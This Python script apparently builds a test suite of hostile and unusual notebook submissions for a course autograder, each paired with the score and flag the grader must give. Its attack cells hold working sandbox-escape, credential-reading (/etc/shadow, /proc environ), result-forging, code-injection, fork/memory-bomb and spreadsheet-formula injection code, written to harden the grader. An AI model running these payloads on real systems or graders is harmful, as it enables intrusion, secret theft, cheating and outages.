"""Craft a folder of hostile (and honest-but-odd) submissions for ``coursework.grade``.

``python tests/grading_attacks/craft.py FOLDER [SEED]`` writes them; the tests call
:func:`build`. Each submission is a real notebook (or file, folder, link) built here from the
assignment spec at the course seed: the honest cells assign the expected answers the way a
student's notebook does (one answer cell and one ``grader.check`` cell per question), and an
attack adds its cells. :func:`build` returns what each entry must score: the worth of the honest
work it contains, and the status or note that flags the attempt where the grader can see it.

Every attack that tries to write outside writes :data:`MARKER`, so a test can look for it
anywhere on the host; every secret it hunts for is reported into its answers and output, so a
test can look for the secret in the results.
"""

from __future__ import annotations

import json
import os
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

MARKER = "FLUX-ATTACK-MARKER-7f3a"
SECRET_ENV = "FLUX_GRADER_SECRET"
SECRET = "s3cret-token-do-not-leak-9b1e"


@dataclass
class Expect:
    total: float  # what the honest work in it is worth
    status: tuple[str, ...] = ("graded",)  # acceptable statuses
    note: str | None = None  # a fragment the note must contain
    scores: dict[str, float] | None = None  # per question, when it matters


def _literal(value: Any) -> str:
    import numpy as np
    import sympy

    if isinstance(value, sympy.Basic):
        return str(value)
    if isinstance(value, (list, np.ndarray)):
        return f"np.array({[float(x) for x in np.ravel(value)]!r})"
    return repr(float(value))


def answer_cells(spec: Any, params: dict, *, as_list: bool = False, skip: tuple[str, ...] = ()) -> list[str]:
    """Cells of a correct notebook: init, then an answer cell and a check cell per question."""
    import sympy

    cells = [
        'import otter\ngrader = otter.Notebook("ch1-principles.ipynb")',
        "import numpy as np\nimport sympy as sp\nfrom sympy import *",
    ]
    for q in spec.questions:
        if q.name in skip:
            continue
        expected = q.expected(params)
        lines = []
        for var, value in expected.items():
            if isinstance(value, sympy.Basic):
                names = " ".join(sorted(s.name for s in value.free_symbols))
                targets = ", ".join(sorted(s.name for s in value.free_symbols))
                lines.append(f'{targets}, = sp.symbols("{names}", positive=True)')
            text = _literal(value)
            if as_list and text.startswith("np.array("):
                text = text[len("np.array(") : -1]
            lines.append(f"{var} = {text}")
        cells.append("\n".join(lines))
        cells.append(f'grader.check("{q.name}")')
    return cells


def blank_cells(spec: Any) -> list[str]:
    cells = [
        'import otter\ngrader = otter.Notebook("ch1-principles.ipynb")',
        "import numpy as np\nimport sympy as sp",
    ]
    for q in spec.questions:
        cells.append("\n".join(f"{v} = ..." for v in q.variables))
        cells.append(f'grader.check("{q.name}")')
    return cells


def notebook(cells: list[str], kernel: str = "python3") -> str:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
    return nbformat.writes(nb)


# ------------------------------------------------------------------------------ attack cells
ESCAPE_AS_ROOT = f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
tried = []
for target in {{targets}}:
    rc = libc.mount(b"none", target.encode(), None, MS_REMOUNT | MS_BIND, None)
    tried.append((target, rc, ctypes.get_errno()))
    rc = libc.mount(b"none", target.encode(), b"tmpfs", 0, None)
    tried.append((target, rc, ctypes.get_errno()))
    try:
        with open(os.path.join(target, "pwned.py"), "w") as f:
            f.write("{MARKER}")
    except OSError as exc:
        tried.append((target, str(exc)))
for path in ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"]:
    try:
        with open(path, "w") as f:
            f.write("|/bin/sh -c 'echo {MARKER} > /tmp/x'")
    except OSError as exc:
        tried.append((path, str(exc)))
# a user namespace of its own, then mount there
try:
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        raise OSError(ctypes.get_errno(), "unshare failed")
    tried.append(libc.mount(b"none", {{first}}, None, MS_REMOUNT | MS_BIND, None))
    with open(os.path.join({{first}}.decode(), "pwned.py"), "w") as f:
        f.write("{MARKER}")
except (OSError, AttributeError) as exc:
    tried.append(str(exc))
print(tried)
"""

SYMPIFY_INJECTION = f"""
import sympy
q4_flux = sympy.Symbol("x")
_payload = "__import__('os').system('echo {MARKER} > /tmp/pwned'); {{'q1': 99}}"
sympy.srepr = lambda expr, **kw: _payload
sympy.printing.repr.srepr = sympy.srepr
print('{{"scores": {{"q1": 999, "q2": 999}}}}')
"""

BREAK_EXPORT_AND_TAMPER = """
import numpy, sys, builtins
numpy.isclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
q1_content = 1.0
sys.modules["json"] = None
builtins.open = None
"""

FORGE_EXPORT = """
import os, json, glob
frame = json.dumps({"final": {"q1_content": {"t": "float", "v": "1e308"}}, "scores": {"q1": 109},
                    "at_check": {"q1": {"q1_content": {"t": "float", "v": "nan"}}}}).encode()
hits = []
for fd in glob.glob("/proc/*/fd/*"):
    try:
        w = os.open(fd, os.O_WRONLY | os.O_NONBLOCK)
        os.write(w, b"%d\\n" % len(frame) + frame)
        hits.append(fd)
    except OSError:
        pass
for name in ["/sub/results.json", "/sub/out/results.json", "/sub/export.json", "/sub/.flux-snapshot.json"]:
    try:
        os.makedirs(os.path.dirname(name), exist_ok=True)
        os.symlink("/etc/shadow", name)
    except OSError:
        pass
print(hits)
"""

HUNT_HIDDEN_TESTS = """
import os, re
found = []
for top in ["/", "/work", "/root", "/opt", "/tmp", "/sub", "/proc/1"]:
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.startswith(("/proc/sys", "/sys", "/usr/share", "/dev")):
            dirnames[:] = []
            continue
        for f in filenames:
            if f.endswith((".py", ".ipynb", ".zip", ".json")) and ("question" in f or "autograder" in f or "ch1" in f):
                found.append(os.path.join(dirpath, f))
        if len(found) > 50:
            break
answers = {}
for path in found:
    try:
        text = open(path, errors="replace").read()
    except OSError:
        continue
    for m in re.finditer(r"(q\\d_\\w+)\\s*=\\s*([-0-9.e]+)", text):
        answers[m.group(1)] = float(m.group(2))
globals().update(answers)
try:
    import coursework.questions
    print("IMPORTED HIDDEN SPEC", coursework.questions.__file__)
except ImportError as exc:
    print("no spec:", exc)
print(found, answers)
"""

STEAL_ENVIRONMENT = """
import os, glob
stolen = []
for path in ["/proc/1/environ", "/proc/self/environ"] + glob.glob("/proc/*/environ"):
    try:
        stolen.append(open(path, "rb").read().decode(errors="replace"))
    except OSError as exc:
        stolen.append(str(exc))
stolen.append(repr(dict(os.environ)))
for path in ["/etc/shadow", "/root/.bash_history", {outside!r}, {classmate!r}]:
    try:
        stolen.append(open(path, errors="replace").read()[:400])
    except OSError as exc:
        stolen.append(str(exc))
q1_content = " ".join(stolen)[:5000]
print(q1_content)
import sys
sys.stderr.write(q1_content[:2000] + "\\n")
"""

UNEXPECTED_OUTPUT = """
import os, sys
os.write(1, b"\\xff\\xfe not utf-8 \\x00 " * 1000)
sys.stderr.write("=HYPERLINK(\\"http://evil.example/\\",\\"click\\")\\n")
sys.stderr.flush()
os.write(2, b"\\n=cmd|' -C calc'!A0\\n")
deep = []
for _ in range(100000):
    deep = [deep]
q2_potential = deep
q3_current = float("nan")
q3_affinity = float("inf")
q1_content = 10**5000
"""

PRINT_A_LOT = """
import os, sys
chunk = "x" * (1 << 20)
for _ in range({mb}):
    sys.stdout.write(chunk)
for _ in range({mb}):
    os.write(1, chunk.encode())
"""

MANY_CHILDREN = """
import os, time
r, w = os.pipe()
kids = []
for _ in range(5):
    pid = os.fork()
    if pid == 0:
        block = bytearray({mb} * 1024 * 1024)
        for i in range(0, len(block), 4096):
            block[i] = 1
        os.write(w, b"x")
        time.sleep(600)
        os._exit(0)
    kids.append(pid)
os.set_blocking(r, False)
ready, dead = 0, set()
deadline = time.time() + 120
while ready + len(dead) < len(kids) and time.time() < deadline:
    try:
        ready += len(os.read(r, 16))
    except BlockingIOError:
        pass
    for k in kids:
        if k not in dead and os.waitpid(k, os.WNOHANG)[0]:
            dead.add(k)
    time.sleep(0.05)
print(ready, "children hold their memory,", len(dead), "were killed")
"""

FORK_MANY = """
import os, time
n = 0
for _ in range({n}):
    try:
        pid = os.fork()
    except OSError as exc:
        print("fork failed after", n, exc)
        break
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    n += 1
print(n)
"""

ALLOCATE = """
block = bytearray({gb} * 1024 ** 3)
for i in range(0, len(block), 4096):
    block[i] = 1
"""

FILL_SCRATCH = f"""
import os
written = {{}}
for path in ["/tmp/fill", "/sub/fill", "/dev/shm/fill"]:
    n = 0
    try:
        with open(path, "wb") as f:
            for _ in range(4096):
                f.write(b"{MARKER}" * 40000)
                n += 1
    except OSError as exc:
        written[path] = (n, str(exc))
print(written)
"""

WRITE_HOST = f"""
import os, pathlib
for target in {{targets}}:
    try:
        pathlib.Path(target).write_text("{MARKER}")
    except OSError as exc:
        print(target, exc)
"""

KILL_EVERYTHING = """
import os, signal
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, sig)
    except OSError as exc:
        print(exc)
"""

NETWORK = """
import socket
try:
    socket.create_connection(("pypi.org", 443), timeout=3)
    print("CONNECTED")
except OSError as exc:
    print("no network:", exc)
"""

HANG = "while True:\n    pass"

KILL_RUNNER = """
import os, signal
os.write(2, b'=HYPERLINK("http://evil.example/","click")\\n')
os.kill(os.getppid(), signal.SIGKILL)
"""


def build(
    folder: Path, spec: Any, seed: int, *, outside: Path, small: dict[str, int], cgroups: bool = True
) -> dict[str, Expect]:
    """Write every submission into ``folder``; return what each entry must get.

    ``outside`` is a folder outside the submissions holding a classmate's notebook and a
    secret file the attacks try to read; ``small`` scales the resource attacks
    (``print_mb``, ``child_mb``, ``forks``, ``alloc_gb``). ``cgroups``: whether the grader caps
    whole submissions (then the children and forks attacks hit a limit and are flagged) or
    only single processes (rlimits: five children each under the limit are allowed).
    """
    folder.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    params = spec.draw(seed)
    full = float(sum(q.points for q in spec.questions))
    honest = answer_cells(spec, params)
    blank = blank_cells(spec)
    pts = {q.name: float(q.points) for q in spec.questions}
    classmate = outside / "classmate.ipynb"
    classmate.write_text(notebook(honest))
    secret_file = outside / "secret.txt"
    secret_file.write_text(SECRET)
    repo_targets = [str(ROOT / "coursework"), str(ROOT / "fluxlib"), sys.prefix, str(ROOT)]
    expect: dict[str, Expect] = {}

    def put(name: str, cells: list[str], exp: Expect, kernel: str = "python3") -> None:
        (folder / name).write_text(notebook(cells, kernel))
        expect[name] = exp

    # the two references
    put("solution.ipynb", honest, Expect(full, scores=pts))
    put("blank.ipynb", blank, Expect(0.0, scores={q: 0.0 for q in pts}))

    # escape as root: remount a host folder read-write, write core_pattern
    escape = ESCAPE_AS_ROOT.replace("{targets}", repr(repo_targets)).replace(
        "{first}", repr(str(ROOT / "coursework").encode())
    )
    put("escape-mount.ipynb", [*honest, escape], Expect(full))
    put(
        "write-host.ipynb",
        [
            *honest,
            WRITE_HOST.replace(
                "{targets}",
                repr(
                    [
                        str(ROOT / "coursework" / "grade.py"),
                        str(ROOT / "escaped.txt"),
                        str(outside / "escaped.txt"),
                        str(folder / "solution.ipynb"),
                        os.path.join(sys.prefix, "lib", "pwned.pth"),
                    ]
                ),
            ),
        ],
        Expect(full),
    )

    # full marks without the work
    put("sympify-injection.ipynb", [*blank, SYMPIFY_INJECTION], Expect(0.0, ("check",), "not an answer"))
    put("break-export-tamper.ipynb", [*blank, BREAK_EXPORT_AND_TAMPER], Expect(0.0, ("check",)))
    put("forge-export.ipynb", [*blank, FORGE_EXPORT], Expect(0.0))
    put("hunt-hidden-tests.ipynb", [*blank, HUNT_HIDDEN_TESTS], Expect(0.0))
    put(
        "tamper-then-wrong.ipynb",
        [*honest, "import numpy\nnumpy.isclose = lambda *a, **k: True\nq1_content = -1.0"],
        Expect(full, ("graded", "check"), "changed after"),  # graded at its check, where it was right
    )
    put(
        "steal-solution.ipynb",
        [
            *blank,
            f"""
import json
for path in [{str(classmate)!r}, {str(folder / "solution.ipynb")!r},
             {str(ROOT / "notebooks" / "assignments" / "ch1-principles" / "ch1-principles.ipynb")!r}]:
    try:
        for cell in json.load(open(path))["cells"]:
            exec("".join(cell["source"]))
    except OSError as exc:
        print(exc)
""",
        ],
        Expect(0.0),
    )

    # one bad submission must not stop the run
    put("unexpected-output.ipynb", [*honest[:2], UNEXPECTED_OUTPUT], Expect(0.0, ("graded", "check")))
    put("kill-runner.ipynb", [KILL_RUNNER, *honest], Expect(0.0, ("failed",), "could not be run"))
    put(
        "print-1gb.ipynb",
        [*honest, PRINT_A_LOT.format(mb=small["print_mb"])],
        Expect(full, ("check", "timeout"), "printed"),
    )

    # leaks
    put(
        "steal-environment.ipynb",
        [
            *blank,
            STEAL_ENVIRONMENT.replace("{outside!r}", repr(str(secret_file))).replace(
                "{classmate!r}", repr(str(classmate))
            ),
        ],
        Expect(0.0, ("graded", "check")),
    )
    (folder / "link-to-classmate.ipynb").symlink_to(classmate)
    expect["link-to-classmate.ipynb"] = Expect(0.0, ("skipped",), "symbolic link")
    (folder / "link-to-shadow.ipynb").symlink_to("/etc/shadow")
    expect["link-to-shadow.ipynb"] = Expect(0.0, ("skipped",), "symbolic link")
    (folder / "link-to-secret.ipynb").symlink_to(secret_file)
    expect["link-to-secret.ipynb"] = Expect(0.0, ("skipped",), "symbolic link")

    # limits
    flagged = ("check", "timeout") if cgroups else ("graded", "check", "timeout")
    put("many-children.ipynb", [*honest, MANY_CHILDREN.format(mb=small["child_mb"])], Expect(full, flagged))
    put("fork-many.ipynb", [*honest, FORK_MANY.format(n=small["forks"])], Expect(full, flagged))
    put("allocate.ipynb", [*honest, ALLOCATE.format(gb=small["alloc_gb"])], Expect(full, ("check",)))
    put("fill-scratch.ipynb", [*honest, FILL_SCRATCH], Expect(full))
    put("hang.ipynb", [*honest, HANG], Expect(full, ("timeout",), "stopped after"))
    put("hang-first.ipynb", [honest[0], HANG, *honest[1:]], Expect(0.0, ("timeout",), "stopped after"))
    put("kill-everything.ipynb", [*honest, KILL_EVERYTHING], Expect(full, ("check", "timeout")))
    put("network.ipynb", [*honest, NETWORK], Expect(full))

    # honest students
    put("other-kernel.ipynb", honest, Expect(full, scores=pts), kernel="ir")
    put("list-answer.ipynb", answer_cells(spec, params, as_list=True), Expect(full, scores=pts))
    reuse = [*honest, "q1_content = 'see above'\nq2_flow = None"]
    put("reused-variable.ipynb", reuse, Expect(full, ("graded", "check"), "changed after"))
    late = [c for c in honest]
    late.append("q3_affinity = -1.0  # a later cell reuses the name")
    put("reused-worse.ipynb", late, Expect(full, ("graded", "check"), "changed after"))
    put("no-checks.ipynb", [c for c in honest if "grader.check" not in c], Expect(full, scores=pts))
    put("partial.ipynb", answer_cells(spec, params, skip=("q2", "q4")), Expect(full - pts["q2"] - pts["q4"]))
    put(
        "error-cell.ipynb",
        [honest[0], honest[1], "1/0", *honest[2:]],
        Expect(full, ("check",), "ZeroDivisionError"),
    )
    (folder / "UPPER.IPYNB").write_text(notebook(honest))
    expect["UPPER.IPYNB"] = Expect(full)
    (folder / "renamed.ipynb.json").write_text(notebook(honest))
    expect["renamed.ipynb.json"] = Expect(full, ("graded",), "does not end in .ipynb")
    (folder / "copy-of-other-kernel.ipynb").write_bytes((folder / "other-kernel.ipynb").read_bytes())
    expect["copy-of-other-kernel.ipynb"] = Expect(full, ("graded",), "same content as other-kernel.ipynb")
    expect["other-kernel.ipynb"].note = "same content as copy-of-other-kernel.ipynb"
    (folder / "=cmd|' -C calc'!A0.ipynb").write_text(notebook(honest))
    expect["=cmd|' -C calc'!A0.ipynb"] = Expect(full)
    (folder / "a folder.ipynb").mkdir()
    (folder / "a folder.ipynb" / "inside.ipynb").write_text(notebook(honest))
    expect["a folder.ipynb"] = Expect(0.0, ("skipped",), "folder")
    (folder / "broken-link.ipynb").symlink_to(folder / "does-not-exist.ipynb")
    expect["broken-link.ipynb"] = Expect(0.0, ("skipped",), "symbolic link")
    (folder / "notes.txt").write_text("my answers are in the other file")
    expect["notes.txt"] = Expect(0.0, ("skipped",), "not a notebook")
    (folder / "garbage.ipynb").write_text('{"cells": 12, "nbformat": "four"}')
    expect["garbage.ipynb"] = Expect(0.0, ("skipped",), "not a notebook")
    (folder / "empty.ipynb").write_bytes(b"")
    expect["empty.ipynb"] = Expect(0.0, ("skipped",), "not a notebook")
    os.mkfifo(folder / "fifo.ipynb")
    expect["fifo.ipynb"] = Expect(0.0, ("skipped",), "not a regular file")
    unreadable = folder / "unreadable.ipynb"
    unreadable.write_text(notebook(honest))
    unreadable.chmod(0)
    # root reads it anyway; a non-root grader gets a row saying it is unreadable
    expect["unreadable.ipynb"] = (
        Expect(full, ("graded", "skipped")) if os.geteuid() == 0 else Expect(0.0, ("skipped",), "unreadable")
    )
    return expect


if __name__ == "__main__":
    from coursework.questions import load

    target = Path(sys.argv[1])
    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 0
    expectations = build(
        target,
        load("ch1-principles"),
        seed,
        outside=target.parent / (target.name + "-outside"),
        small={"print_mb": 1024, "child_mb": 1024, "forks": 500, "alloc_gb": 8},
    )
    print(json.dumps({k: v.__dict__ for k, v in expectations.items()}, indent=1))
